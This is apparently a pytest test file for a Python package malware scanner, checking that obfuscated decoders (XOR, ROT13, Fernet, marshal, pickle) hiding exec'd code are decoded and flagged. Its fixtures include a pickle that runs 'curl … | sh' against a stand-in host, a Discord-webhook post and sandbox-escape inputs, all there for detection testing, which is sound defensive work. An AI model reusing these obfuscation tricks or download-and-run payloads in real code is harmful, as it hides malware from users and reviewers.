"""Decoders written in Python, compiled code and ciphers: what they hide is computed or read, and never run."""

from __future__ import annotations

import ast
import base64
import codecs
import marshal
import os
import pickle
import time

import pytest
from cryptography.fernet import Fernet
from hypothesis import given, settings
from hypothesis import strategies as st

from support.scan import finding_of, rules_of, scan_import
from wheelmark.scan import Context, ScanBounds, Severity, Verdict
from wheelmark.scan.calculation import NotComputable, StepBudget
from wheelmark.scan.compiled import read_code, read_pickle
from wheelmark.scan.computing import Computer, decodes_text
from wheelmark.scan.decoding import Budget
from wheelmark.scan.values import Value

SAID = "print('imitation of a payload')"
KEY = "k3y"
XORED = "".join(chr(ord(a) ^ ord(KEY[i % 3])) for i, a in enumerate(SAID))
ALPHABET = "abcdefghijklmnopqrstuvwxyz"
SHIFTED = SAID.translate(str.maketrans(ALPHABET, ALPHABET[13:] + ALPHABET[:13]))
NUMBERS = [ord(each) * 7 + 3 for each in SAID]
FERNET_KEY = base64.urlsafe_b64encode(b"0" * 32)
TOKEN = Fernet(FERNET_KEY).encrypt_at_time(SAID.encode(), 0)

DECODERS = {
    "exclusive or in a loop": f"t = {XORED!r}\nk = {KEY!r}\nx = ''\nfor i in range(len(t)):\n"
    "    c = t[i]\n    x += chr(ord(c) ^ ord(k[i % len(k)]))\nexec(x)",
    "exclusive or in a function": f"def f(t, k):\n    out = []\n    for i, c in enumerate(t):\n"
    f"        out.append(chr(ord(c) ^ ord(k[i % len(k)])))\n    return ''.join(out)\nexec(f({XORED!r}, {KEY!r}))",
    "exclusive or with a cycled key": f"from itertools import cycle\nt = {XORED.encode('latin-1')!r}\n"
    f"exec(bytes(a ^ b for a, b in zip(t, cycle({KEY.encode()!r}))))",
    "exclusive or of bytes in a nested function": "import base64\ndef outer(e):\n    def xor(m, k):\n"
    "        r = list()\n        for i, c in enumerate(m):\n            r.append(c ^ k[i % len(k)])\n"
    "        return bytes(r)\n"
    f"    return xor(base64.b64decode(e), {KEY.encode()!r}).decode()\n"
    f"exec(outer({base64.b64encode(XORED.encode('latin-1')).decode()!r}))",
    "while loop with an index": f"n = {NUMBERS!r}\ni = 0\ns = ''\nwhile i < len(n):\n    s = s + chr((n[i] - 3) // 7)\n"
    "    i += 1\nexec(s)",
    "table of characters": f"a = {ALPHABET!r}\nexec({SHIFTED!r}.translate(str.maketrans(a[13:] + a[:13], a)))",
    "own alphabet with a condition": f"import string\na = string.ascii_lowercase\nr = a[13:] + a[:13]\n"
    f"exec(''.join([a[r.index(c)] if c in r else c for c in {SHIFTED!r}]))",
    "dictionary of characters": f"d = {{chr(k): chr(k - 1) for k in range(1, 200)}}\n"
    f"exec(''.join(d[c] for c in {''.join(chr(ord(c) + 1) for c in SAID)!r}))",
    "number turned into bytes": f"n = {int.from_bytes(SAID.encode())}\nexec(n.to_bytes({len(SAID)}, 'big').decode())",
    "division": f"exec(''.join(chr(int(i / 2)) for i in {[ord(each) * 2 for each in SAID]!r}))",
    "map with a lambda": f"exec(''.join(map(lambda n: chr((n - 3) // 7), {NUMBERS!r})))",
    "reduce": f"from functools import reduce\nexec(reduce(lambda a, n: a + chr((n - 3) // 7), {NUMBERS!r}, ''))",
    "uu codec": f"import codecs\nexec(codecs.decode({codecs.encode(SAID.encode(), 'uu')!r}, 'uu'))",
    "fernet with the key beside it": f"from cryptography.fernet import Fernet\n"
    f"exec(Fernet({FERNET_KEY!r}).decrypt({TOKEN!r}))",
    "compiled code": f"import marshal\nexec(marshal.loads({marshal.dumps(compile(SAID, 'x', 'exec'))!r}))",
    "helper of another name": f"import base64\nb = base64.b64decode\ndef f(x):\n    return b(x[::-1]).decode()\n"
    f"exec(f({base64.b64encode(SAID.encode()).decode()[::-1]!r}))",
    "set as a built-in": "import base64\nsetattr(__builtins__, '_x', exec)\n"
    f"_x(base64.b64decode({base64.b64encode(SAID.encode()).decode()!r}))",
}


@pytest.mark.parametrize("source", DECODERS.values(), ids=DECODERS.keys())
def test_code_behind_a_decoder_is_found_and_read(source: str) -> None:
    report = scan_import(source)
    finding = finding_of(report, "decoded-code-executed")
    assert (finding.severity, finding.context) == (Severity.CRITICAL, Context.IMPORT)
    assert any("imitation" in layer.text for layer in report.layers)
    assert report.verdict is Verdict.MALICIOUS


def computed(source: str, name: str = "x") -> object:
    """What a variable holds after statements that only compute."""
    computer = Computer(lambda name: Value(name=name), lambda key: None, Budget(1_000_000, 10_000), StepBudget())
    return computer.run(ast.parse(source).body)[name]


@given(st.binary(max_size=60), st.binary(min_size=1, max_size=7))
@settings(max_examples=30)
def test_computed_loop_gives_what_python_gives(text: bytes, key: bytes) -> None:
    source = (
        f"t = {text!r}\nk = {key!r}\nx = []\nfor i, c in enumerate(t):\n    if c % 5 == 0:\n        continue\n"
        "    x.append((c ^ k[i % len(k)]) + (1 if i > 3 else 0))\n    if len(x) > 40:\n        break\n"
    )
    names: dict[str, object] = {}
    exec(source, names)
    assert computed(source) == names["x"]


@pytest.mark.parametrize(
    "source",
    [
        "x = open('f').read()",
        "import os\nx = os.system('echo')",
        "x = ().__class__.__base__",
        "x = 'a'.__len__()",
        "x = [].append.__self__",
        "x = 10 ** 10 ** 10",
        "x = [0]\nwhile True:\n    x = x + x",
        "x = [0]\nwhile True:\n    x.extend(x)",
        "x = 'a'\nwhile True:\n    x += x",
        "x = 0\nwhile True:\n    x += 1",
        "def f(n):\n    return f(n + 1)\nx = f(0)",
        "x = exec('y = 1')",
        "x = eval('__import__(\"os\")')()",
        "x = '{0.__class__}'.format(1)",
        "x = '%99999999d' % 1",
        "raise ValueError",
        "x = undefined + 1",
        "x = 1 / 0",
    ],
)
def test_what_does_more_than_compute_is_not_computed(source: str) -> None:
    started = time.process_time()
    with pytest.raises(NotComputable):
        computed(source)
    assert time.process_time() - started < 5


def test_constants_of_the_module_are_not_changed_by_a_computation() -> None:
    report = scan_import(
        f"n = {NUMBERS!r}\ndef f(items):\n    s = ''\n    while items:\n        s += chr((items.pop(0) - 3) // 7)\n"
        "    return s\nf(n)\nexec(f(n))"
    )
    assert finding_of(report, "decoded-code-executed").severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "source",
    [
        "def crc(t):\n    c = 0\n    for b in t:\n        c ^= b\n    return c\nX = crc(b'abc')\nprint(X)",
        "X = ''.join(chr(c) for c in range(97, 123))\nprint(X)",
        "import struct\nT = [i ^ 3 for i in range(256)]\n",
    ],
)
def test_arithmetic_that_is_not_executed_is_left_alone(source: str) -> None:
    assert scan_import(source).findings == ()


def test_body_is_taken_for_a_decoder_by_what_it_computes_with() -> None:
    assert decodes_text(ast.parse("for c in t:\n    x += chr(c)"))
    assert decodes_text(ast.parse("y = a ^ b"))
    assert not decodes_text(ast.parse("for c in t:\n    x += c.upper()"))
    assert not decodes_text(ast.parse("def f():\n    yield chr(1)"))
    assert not decodes_text(ast.parse("x = chr(1)\n" * 300))


def test_compiled_code_shows_names_and_text_of_all_that_is_inside() -> None:
    source = (
        "import requests\ndef f(x):\n    return lambda: requests.post('https://x.example.invalid', data=x)\n"
        "class A:\n    y = (1, 2.5, 1j, b'raw', 10**40, frozenset({'in a set'}), ..., None)\n"
    )
    found = read_code(marshal.dumps(compile(source, "x", "exec")))
    assert found is not None
    assert {"requests", "post", "f", "A"} <= set(found.names)
    assert {"https://x.example.invalid", "raw"} <= set(found.texts)


def test_compiled_code_is_judged_by_what_it_names() -> None:
    code = compile(
        "import os, requests\nrequests.post('https://discord.com/api/webhooks/1234567/abcdefgh')", "x", "exec"
    )
    report = scan_import(f"import marshal\nexec(marshal.loads({marshal.dumps(code)!r}))")
    assert "messenger-exfiltration" in rules_of(report)


@given(st.binary(max_size=300))
@settings(max_examples=100)
def test_any_bytes_are_read_as_compiled_code_or_refused(raw: bytes) -> None:
    read_code(b"\xe3" + raw)
    read_pickle(raw)


def test_nested_and_endless_compiled_code_is_refused() -> None:
    assert read_code(b"\xe3" + b"\0" * 20 + b"(" * 5000) is None
    assert read_code(b"c" + b"\0" * 20 + b"(\xff\xff\xff\x7f" * 100) is None


class _Runs:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("curl https://x.example.invalid/a | sh",)


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_pickle_that_runs_a_command_is_read(protocol: int) -> None:
    found = read_pickle(pickle.dumps(_Runs(), protocol))
    assert found is not None
    assert found.calls == [(f"{os.name}.system", "curl https://x.example.invalid/a | sh")]
    report = scan_import(f"import pickle\npickle.loads({pickle.dumps(_Runs(), protocol)!r})")
    assert finding_of(report, "shell-download-run").severity is Severity.CRITICAL


def test_pickled_table_is_left_alone() -> None:
    report = scan_import(f"import pickle\nT = pickle.loads({pickle.dumps({'a': [1, 2]})!r})")
    assert report.verdict is Verdict.BENIGN


def test_token_under_another_key_stays_unknown() -> None:
    other = base64.urlsafe_b64encode(b"1" * 32)
    report = scan_import(f"from cryptography.fernet import Fernet\nexec(Fernet({other!r}).decrypt({TOKEN!r}))")
    assert report.layers == ()
    assert "decoded-code-executed" in rules_of(report)


def test_steps_of_computations_are_bounded_for_the_whole_scan() -> None:
    loop = "x = ''\nwhile True:\n    x = chr(1)\n"
    started = time.process_time()
    report = scan_import(loop * 50 + "y = 1")
    assert report.incomplete_reason is None
    assert time.process_time() - started < 20
    assert ScanBounds().max_steps > 0
